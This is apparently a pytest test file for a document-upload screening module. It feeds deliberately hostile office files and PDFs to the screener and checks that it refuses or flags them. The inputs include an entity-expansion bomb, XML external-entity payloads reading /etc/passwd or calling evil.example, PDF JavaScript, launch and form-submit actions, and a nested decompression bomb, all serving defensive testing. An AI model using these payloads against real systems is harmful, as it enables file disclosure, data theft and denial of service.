"""Row 7 for office files and PDF: floods of entities and pages, macros, and what would happen when they are opened."""

import io
from email.message import EmailMessage

import pytest
from django.utils import translation
from pypdf import PdfWriter

from madoguchi.files.faults import FileRefused
from madoguchi.files.limits import Unfit
from madoguchi.files.look import look_into
from madoguchi.files.taking import looked_into

from .samples import PHRASE, docx, pdf, picture, zipped

LAUGHS = '<!DOCTYPE z [<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"  # fmt: skip


@pytest.fixture(autouse=True)
def in_english():
    with translation.override("en"):
        yield


@pytest.mark.parametrize("document", [f"{LAUGHS}<z>&i;</z>", '<!DOCTYPE z SYSTEM "file:///etc/passwd"><z/>', '<!DOCTYPE z [<!ENTITY x SYSTEM "http://evil.example/">]><z>&x;</z>'])  # fmt: skip
def test_a_document_with_entities_of_its_own_is_refused(document):
    with pytest.raises(Unfit, match="markup"):
        look_into(docx(document=document), "a.docx")


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "xl/vbaProject.bin", "Basic/Standard/Module1.xml"])
def test_macros_under_the_name_of_a_document_without_are_refused(part):
    with pytest.raises(FileRefused, match="macros"):
        looked_into(docx(more={part: "x"}), "a.docx")


def test_what_loads_from_elsewhere_or_holds_other_files_is_told():
    template = '<R><Relationship TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></R>'
    link = '<R><Relationship TargetMode="External" Type="http://x/hyperlink" Target="https://mihon.example/"/></R>'
    assert looked_into(docx(more={"word/_rels/settings.xml.rels": template}), "a.docx").remarks == ("outside",)
    assert looked_into(docx(more={"word/_rels/document.xml.rels": link}), "a.docx").remarks == ()
    assert looked_into(docx(more={"word/embeddings/oleObject1.bin": "x"}), "a.docx").remarks == ("embedded",)


def test_deep_and_broken_documents_are_refused():
    for document in ("<a>" * 200_000, "<w:document", "\x00"):
        with pytest.raises(FileRefused):
            looked_into(docx(document=document), "a.docx")


def test_macros_of_the_old_programs_are_told():
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
    assert looked_into(old + "_VBA_PROJECT".encode("utf-16-le"), "a.xls").remarks == ("macros",)
    assert looked_into(old, "a.xls").remarks == ()


@pytest.mark.parametrize(
    ("catalog", "more", "remarks"),
    [
        ("", (), ()),
        ("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", (), ("script",)),
        ("/OpenAction << /S /Launch /F (calc.exe) >>", (), ("launch",)),
        ("/Names << /EmbeddedFiles << /Names [] >> >>", (), ("embedded",)),
        ("/OpenAction 1000 0 R", (b"<< /S /JavaScript /JS 1001 0 R >>", b"<< /Length 1 >>\nstream\nx\nendstream"), ("script",)),
        ("", (b"<< /S /Java#53cript /J#53 (x) >>",), ("script",)),
        ("/AcroForm << /Fields [] /XFA (x) >>", (), ("script",)),
        ("/AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>", (), ("submits",)),
    ],
)  # fmt: skip
def test_what_a_pdf_would_do_is_told(catalog, more, remarks):
    assert looked_into(pdf(catalog=catalog, more=more), "a.pdf").remarks == remarks


def test_a_file_within_a_pdf_is_read_as_well():
    inner = PHRASE.encode()
    more = (
        b"<< /Names [(words.txt) 1001 0 R] >>",
        b"<< /Type /Filespec /F (words.txt) /UF (words.txt) /EF << /F 1002 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(inner), inner),
    )
    with pytest.raises(FileRefused, match="secret"):
        looked_into(pdf(catalog="/Names << /EmbeddedFiles 1000 0 R >>", more=more), "a.pdf")


def test_words_beside_the_pages_are_read_as_well():
    note = f"<< /Type /Annot /Subtype /Text /Rect [0 0 1 1] /Contents ({PHRASE}) >>".encode()
    content = pdf(more=(note,)).replace(b"/Type /Page /Parent", b"/Type /Page /Annots [1000 0 R] /Parent")
    with pytest.raises(FileRefused, match="secret"):
        looked_into(content, "a.pdf")


def test_a_flood_of_pages_and_a_tree_that_bites_its_tail_are_refused():
    with pytest.raises(FileRefused, match="300 pages"):
        looked_into(pdf(pages=400), "a.pdf")
    ring = pdf().replace(b"/Kids [10 0 R]", b"/Kids [2 0 R ]")
    with pytest.raises(FileRefused):
        looked_into(ring, "a.pdf")


def test_a_pdf_within_which_a_stream_becomes_a_flood_is_refused():
    import zlib

    flood = zlib.compress(zlib.compress(b"\0" * 400_000_000))
    head = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(flood)
    content = pdf(more=(head + flood + b"\nendstream",)).replace(b"/Contents 3 0 R", b"/Contents 1000 0 R")
    with pytest.raises(FileRefused):
        looked_into(content, "a.pdf")


def test_a_pdf_that_cannot_be_read_is_refused_with_what_to_do():
    for content in (b"%PDF-1.4 x", pdf()[:200], b"%PDF-1.7\n" + b"1 0 obj\n" + b"[" * 100_000):
        with pytest.raises(FileRefused, match="screenshot"):
            looked_into(content, "a.pdf")


def test_an_archive_with_a_document_that_is_refused_is_refused():
    with pytest.raises(FileRefused, match="macros"):
        looked_into(zipped({"a.docx": docx(more={"word/vbaProject.bin": "x"})}), "a.zip")


def test_a_workbook_within_a_document_is_read_as_well():
    with pytest.raises(FileRefused, match="secret"):
        looked_into(docx(more={"word/embeddings/sheet.docx": docx(PHRASE)}), "a.docx")


@pytest.mark.parametrize("method", ["RC4-128", "AES-128", "AES-256"])
def test_a_pdf_that_everybody_may_read_is_read_and_one_with_a_password_refused(method):
    def sealed(text, password):
        writer = PdfWriter(clone_from=io.BytesIO(pdf(text)))
        writer.encrypt(user_password=password, owner_password="owner", algorithm=method)
        written = io.BytesIO()
        writer.write(written)
        return written.getvalue()

    assert looked_into(sealed("hello", ""), "a.pdf").kind == "application/pdf"
    with pytest.raises(FileRefused, match="secret"):
        looked_into(sealed(PHRASE, ""), "a.pdf")
    with pytest.raises(FileRefused, match="password"):
        looked_into(sealed("hello", "x"), "a.pdf")


def test_a_mail_with_a_large_picture_is_taken():
    mail = EmailMessage()
    mail.set_content("See the picture.")
    mail.add_attachment(picture("PNG") + b"\0" * 3_000_000, maintype="image", subtype="png", filename="a.png")
    assert looked_into(mail.as_bytes(), "a.eml").kind == "message/rfc822"
